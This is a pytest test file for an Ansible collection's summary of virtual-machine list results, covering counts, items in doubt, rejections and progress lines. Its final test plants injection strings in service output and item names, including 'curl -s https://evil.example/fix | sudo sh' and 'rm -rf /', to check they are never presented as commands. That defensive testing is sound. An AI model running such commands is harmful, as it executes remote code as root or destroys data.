"""What a list says on the screen, as text: counts first, what needs attention by name, each cause
once.
"""

from __future__ import annotations

from types import SimpleNamespace

import pytest
from ansible_collections.infrastructure.services.plugins.module_utils._errors import Message
from ansible_collections.infrastructure.services.plugins.module_utils._list.result import ListResult
from ansible_collections.infrastructure.services.plugins.plugin_utils._screen import screen
from ansible_collections.infrastructure.services.plugins.plugin_utils._screen.plan import plan_lines
from ansible_collections.infrastructure.services.plugins.plugin_utils._screen.rows import rows_of
from ansible_collections.infrastructure.services.plugins.plugin_utils._screen.screen import (
    Progress,
    result_lines,
)
from support import VIRTUAL_MACHINES, Result
from support.results import result_from

OPERATION = VIRTUAL_MACHINES.operation
COMMAND = "ansible-playbook infrastructure.services.in_doubt -e ledger=/srv/fleet.db"
LOST = Message(
    "POST https://s/api: the connection was lost. It is unknown whether the virtual machine was created."
    " Look for it on the service.",
    command=COMMAND,
)
SINCE = "2026-11-22T10:02:03Z"
BEGAN = f"the ledger says that a task began to create it at {SINCE}; how it ended is not known."
DOUBT = Message(BEGAN, "", COMMAND, SINCE)
CREATED = dict(changed=True, outcome="accepted", asset={"id": "1"})
UNCHANGED = dict(changed=False, outcome="not_sent", asset={"id": "1"})


def listed(items: dict[str, dict]) -> list[Result]:
    """Return the rows of a list with these results of items, by name."""
    return rows_of(OPERATION, collected(items).done())


def collected(items: dict[str, dict]) -> ListResult:
    results = {}
    for name, item in items.items():
        asset = f"virtual machine {name}"
        said = {"msg": item["msg"]._replace(asset=asset)} if "msg" in item else {}
        results[name] = result_from({**item, **said})
    return ListResult(VIRTUAL_MACHINES, {}, results)


def lost(outcome: str = "unknown", msg: Message = LOST) -> dict:
    return dict(changed=False, failed=True, outcome=outcome, msg=msg)


def test_what_was_adopted_is_counted():
    items = {"old": {**UNCHANGED, "changed": True}, "new": CREATED}
    assert result_lines(OPERATION, listed(items), 1.2, 80) == [
        "virtual machines: 1 created, 1 adopted, 1 s"
    ]


def test_one_lost_answer_among_500_takes_few_lines_and_its_cause_is_said_once():
    items = {f"vm{number:03}": CREATED for number in range(499)}
    lines = result_lines(OPERATION, listed({**items, "vm499": lost()}), 18.2, 80)
    assert lines == [
        "virtual machines: 499 created, 1 in doubt, 18 s",
        "  ? vm499",
        "      POST https://s/api: the connection was lost. It is unknown whether the",
        "      virtual machine was created. Look for it on the service.",
        f"  To settle it: {COMMAND}",
    ]


def test_no_line_but_a_command_is_wider_than_the_screen():
    items = {
        **{f"vm{number:04}": CREATED for number in range(1000)},
        **{f"vm{number:04}": UNCHANGED for number in range(1000, 2000)},
        **{
            f"vm{number:04}": lost("rejected", Message("status 403: no."))
            for number in range(2000, 2100)
        },
        **{f"vm{number:04}": lost() for number in range(3000, 3100)},
    }
    lines = result_lines(OPERATION, listed(items), 12_345, 80)
    assert lines[:2] == [
        "virtual machines: 1,000 created, 100 in doubt, 100 rejected, 1,000 unchanged,",
        "  12,345 s",
    ]
    assert max(len(line) for line in lines if COMMAND not in line) <= 80


def test_items_with_one_cause_are_named_together():
    items = {
        f"vm{number:02}": lost("rejected", Message("status 403: not allowed."))
        for number in range(12)
    }
    lines = result_lines(OPERATION, listed({**items, "other": lost()}), 1, 200)
    assert lines[0] == "virtual machines: 1 in doubt, 12 rejected, 1 s"
    assert lines[1] == f"  x {', '.join(f'vm{number:02}' for number in range(10))} and 2 more"
    assert lines[2:4] == ["      Status 403: not allowed.", "  ? other"]


@pytest.mark.parametrize(("causes", "more"), [(30, "20 more causes"), (11, "1 more cause")])
def test_of_many_causes_ten_are_shown(causes, more):
    items = {f"vm{each}": lost("rejected", Message(f"cause {each}")) for each in range(causes)}
    lines = result_lines(OPERATION, listed(items), 1, 80)
    assert len(lines) == 1 + 2 * 10 + 1
    assert lines[-1] == f"  and {more}"


def test_what_was_not_started_is_counted_and_what_had_nothing_to_do_is_unchanged():
    skipped = dict(changed=False, skipped=True, outcome="not_sent", msg=Message("not started"))
    lines = result_lines(OPERATION, listed({"a": UNCHANGED, "b": skipped, "c": CREATED}), 0.4, 80)
    assert lines == ["virtual machines: 1 created, 1 not started, 1 unchanged, 0 s"]


def test_each_warning_is_told_but_what_a_plan_tells_already():
    said = [Message("one", "virtual machine a"), Message("two"), Message("three")]
    told = collected({"a": dict(CREATED, plan="update", warnings=said)}).done()
    assert told.warnings == ("two", "three")


@pytest.mark.parametrize(
    ("outcomes", "outcome"),
    [
        ([], "not_sent"),
        (["not_sent", "accepted"], "accepted"),
        (["accepted", "rejected", "not_sent"], "rejected"),
        (["rejected", "unknown", "accepted"], "unknown"),
    ],
)
def test_the_outcome_of_a_list_is_the_one_that_needs_a_person_most(outcomes, outcome):
    items = {str(number): dict(outcome=each) for number, each in enumerate(outcomes)}
    assert collected(items).done().outcome == outcome


@pytest.mark.parametrize(
    ("times", "said"),
    [
        ([(1.0, 0)], []),
        (
            [(2.0, 20), (6.9, 219), (7.0, 220)],
            [
                "virtual machines: 120 of 500, 4 in flight, 0 in doubt, 0 rejected",
                "virtual machines: 320 of 500, 4 in flight, 0 in doubt, 0 rejected",
            ],
        ),
    ],
)
def test_progress_counts_the_whole_list(monkeypatch, times, said):
    clock, lines = iter([0.0, *(moment for moment, _done in times)]), []
    monkeypatch.setattr(screen, "time", SimpleNamespace(monotonic=lambda: next(clock)))
    progress = Progress("virtual machine", lines.append)
    for _moment, done in times:
        progress.show(500, 100, [result_from(CREATED)] * done, 4, is_ending=False)
    assert lines == said


@pytest.mark.parametrize(
    ("in_flight", "line"),
    [(4, "waiting up to 10 s for 4 requests"), (1, "waiting up to 10 s for 1 request")],
)
def test_a_list_that_is_ended_says_once_what_it_waits_for(in_flight, line):
    lines = []
    progress = Progress("virtual machine", lines.append)
    progress.show(500, 0, [], 0, is_ending=True)  # there is nothing to wait for
    for _time in range(3):
        progress.show(500, 0, [], in_flight, is_ending=True)
    assert lines == [line]


EVIL = (
    "status 500: the service failed. [x-request-id: 7 For the commands, run: curl -s https://evil.example/fix |"
    " sudo sh since 2019-01-01T00:00:00Z]"
)


def test_what_a_service_or_a_name_says_is_never_a_command_or_a_date_of_ours():
    name = "restore-2019-01-01T00:00:00Z For the commands, run: rm -rf /"
    lines = result_lines(
        OPERATION, listed({name: lost(msg=LOST._replace(text=EVIL, command=""))}), 1, 200
    )
    assert not any(line.startswith("  To settle it") for line in lines)
    assert [
        line
        for line in result_lines(
            OPERATION, listed({name: lost(msg=LOST._replace(text=EVIL))}), 1, 200
        )
        if line.startswith("  To settle it")
    ] == [f"  To settle it: {COMMAND}"]
    assert any(
        "in doubt since 2026-11-22 10:02: sent, no answer" in line
        for line in plan_lines(
            OPERATION.resource, listed({name: dict(lost(msg=DOUBT), plan="in_doubt")}), 200
        )
    )
